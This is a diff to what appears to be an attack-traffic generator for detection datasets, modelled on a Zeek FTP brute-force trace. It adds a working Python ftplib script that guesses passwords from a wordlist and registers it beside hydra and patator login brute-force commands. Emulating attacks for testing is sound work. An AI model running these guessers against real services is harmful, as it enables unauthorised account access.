@@ -166,6 +166,30 @@ def patator_login(service: str, module: str, failure: str | None = None,
                        "password=FILE0", f"0={b.wordlist}", "-t", _tasks(b), *ignore]]
 
 
+FTP_GUESSER = """
+import ftplib, sys, time
+host, user, wordlist = sys.argv[1:4]
+pause, end = float(sys.argv[4]), time.monotonic() + float(sys.argv[5])
+for password in open(wordlist, encoding="utf-8").read().split():
+    if time.monotonic() > end:
+        break
+    try:
+        with ftplib.FTP(host, timeout=5) as ftp:  # leaving the block sends QUIT
+            ftp.login(user, password)
+    except (ftplib.Error, OSError):
+        pass
+    time.sleep(pause)
+"""
+
+
+def ftp_guesser(b: Budget) -> Commands:
+    """A script's sequential guessing: one password a connection, QUIT after each 530, a
+    pause drawn between (Zeek's ftp bruteforce trace: 30 connections, one after another)."""
+    pause = b.rng.choice(("0", "0.5", "2"))
+    return [["python3", "-c", FTP_GUESSER, b.at("ftp"), LOGIN_USER, b.wordlist, pause,
+             f"{b.seconds:.0f}"]]
+
+
 def hydra_form(b: Budget) -> Commands:
     return [["hydra", "-I", "-t", _tasks(b), "-l", WEB_USER, "-P", b.wordlist, b.at(),
              "http-post-form", "/login:username=^USER^&password=^PASS^:Login failed"]]
@@ -481,7 +505,9 @@ ATTACK_SLOTS: dict[str, tuple[Scenario, ...]] = {
         _variant("nmap-O", "OS Fingerprinting", ("nmap",), nmap_os, "nmap -O"),),
     "udp_scan": (_variant("nmap-sU", "UDPScan", ("nmap",), nmap_udp, "nmap -sU"),),
     "ssh_bruteforce": _four_tools(SSH, "ssh", 22, "ssh_login", "Authentication failed."),
-    "ftp_bruteforce": _four_tools(FTP, "ftp", 21, "ftp_login", "Login incorrect."),
+    "ftp_bruteforce": (*_four_tools(FTP, "ftp", 21, "ftp_login", "Login incorrect."),
+                       _variant("python_ftp", FTP, ("python3",), ftp_guesser,
+                                "ftplib, one guess a connection, QUIT after each 530")),
     "web_bruteforce": (
         _variant("hydra_form", WEB_BF, ("hydra",), hydra_form, "hydra http-post-form"),
         _variant("patator_form", WEB_BF, ("patator",), patator_form, "patator http_fuzz"),
